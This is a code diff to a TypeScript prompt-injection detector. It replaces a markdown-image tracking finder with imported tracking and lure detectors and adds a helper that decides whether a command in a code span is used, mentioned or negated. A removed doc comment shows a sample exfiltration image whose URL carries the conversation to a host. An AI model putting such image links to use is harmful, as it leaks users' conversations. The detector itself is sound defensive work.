@@ -1,9 +1,11 @@
-import { CONTROL_TOKENS, FORGED_HEADINGS, MENTION_WORDS, NEGATIONS, NEGATION_ENDS, REPORTING_VERBS, SPEECH_VERBS, TRACKED_NAMES, WEAK_MENTION_WORDS } from '../../knowledge/prompt-injection.ts';
+import { CONTROL_TOKENS, FORGED_HEADINGS, MENTION_WORDS, NEGATIONS, NEGATION_ENDS, REPORTING_VERBS, SPEECH_VERBS, WEAK_MENTION_WORDS } from '../../knowledge/prompt-injection.ts';
 import type { OrderClass, OrderWeight } from '../../knowledge/prompt-injection.ts';
 import type { SourceRange } from '../mapped-text.ts';
+import { findLures } from './lures.ts';
 import type { ProseRegion } from './model.ts';
 import { findPhrases, readWords } from './phrases.ts';
 import type { PhraseHit } from './phrases.ts';
+import { findTracking } from './tracking.ts';
 import type { Words } from './words.ts';
 import { isInside, quotedRanges } from './zones.ts';
 
@@ -38,14 +40,16 @@ export function findSignals(region: ProseRegion, depth = 0): readonly OrderSigna
   const hits = findPhrases(words);
   const markers = findMarkers(text);
   const blobs = depth === 0 ? findEncoded(text, region) : [];
-  const images = findTrackingImages(text);
-  if (hits.length === 0 && markers.length === 0 && blobs.length === 0 && images.length === 0) return [];
+  const addresses = findTracking(text);
+  const lures = findLures(text, region.carrier === 'code');
+  if (hits.length === 0 && markers.length === 0 && blobs.length === 0 && addresses.length === 0 && lures.length === 0) return [];
   const quotes = quotedRanges(text);
   const context = new Context(text, words, quotes, QUOTING_CARRIERS.has(region.carrier));
   const signals: OrderSignal[] = hits.map((hit) => context.toSignal(hit, region));
   for (const range of markers) signals.push({ class: 'marker', weight: 'order', phrase: 'marker', how: context.howAt(range[0]), region, range });
   for (const range of blobs) signals.push({ class: 'encoded', weight: 'decisive', phrase: 'encoded', how: 'use', region, range });
-  for (const { range, weight } of images) signals.push({ class: 'tracking', weight, phrase: 'image', how: context.howAt(range[0]), region, range });
+  for (const { range, weight, phrase } of addresses) signals.push({ class: 'tracking', weight, phrase, how: context.howAt(range[0]), region, range });
+  for (const { class: name, weight, range, anchor } of lures) signals.push({ class: name, weight, phrase: name, how: context.howBefore(anchor), region, range });
   return signals.sort((a, b) => a.range[0] - b.range[0]);
 }
 
@@ -92,6 +96,13 @@ class Context {
     if (this.#isQuoting || isInside(this.#quotes, index)) return 'mention';
     const word = this.#wordAt(index);
     return this.#isMentioned(word, word) ? 'mention' : 'use';
+  }
+
+  /** For a command in a code span: told by the words in front of it. */
+  howBefore(index: number): OrderSignal['how'] {
+    const word = this.#wordAt(index);
+    if (this.#isNegated(word + 1)) return 'negated';
+    return this.#isQuoting || this.#isReported(word) || this.#isMentioned(word, word) ? 'mention' : 'use';
   }
 
   #wordAt(index: number): number {
@@ -188,24 +199,4 @@ function findEncoded(text: string, region: ProseRegion): SourceRange[] {
     if (findSignals(inner, 1).some((signal) => signal.how === 'use' && signal.weight !== 'hint')) ranges.push([start, end]);
   }
   return ranges;
-}
-
-/** Markdown images whose address has a place to fill in: `![](https://host/p?d={conversation})`. */
-function findTrackingImages(text: string): { range: SourceRange; weight: OrderWeight }[] {
-  const found: { range: SourceRange; weight: OrderWeight }[] = [];
-  let next: number;
-  for (let at = text.indexOf('](http'); at >= 0 && found.length < 50; at = text.indexOf('](http', next)) {
-    next = at + 6;
-    const lead = text.slice(Math.max(0, at - 200), at);
-    const start = at - lead.length + lead.lastIndexOf('![');
-    if (!lead.includes('![')) continue;
-    const url = (text.slice(at + 2, at + 600).split(/[)\s]/, 1)[0] ?? '').toLowerCase();
-    next = at + 2 + url.length;
-    const query = url.indexOf('?');
-    const place = query < 0 ? null : /=(?:\{|\$\{|<|\[|%7b)([^&]{0,40})/.exec(url.slice(query, query + 300));
-    if (!place) continue;
-    const isNamed = TRACKED_NAMES.some((name) => place[1]?.includes(name));
-    found.push({ range: [start, at + 2 + url.length], weight: isNamed ? 'decisive' : 'hint' });
-  }
-  return found;
 }
